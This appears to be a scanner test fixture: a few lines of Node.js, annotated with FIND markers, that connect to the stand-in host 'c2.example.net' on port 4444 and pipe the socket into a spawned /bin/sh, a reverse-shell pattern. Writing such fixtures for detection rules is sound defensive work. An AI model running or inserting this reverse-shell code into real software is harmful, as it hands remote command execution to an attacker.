const net = require("net");
const cp = require("child_process");
const s = new net.Socket(); // FIND: javascript.network
s.connect(4444, "c2.example.net", () => { // FIND: javascript.network
  const sh = cp.spawn("/bin/sh", []); // FIND: javascript.process
  s.pipe(sh.stdin);
});
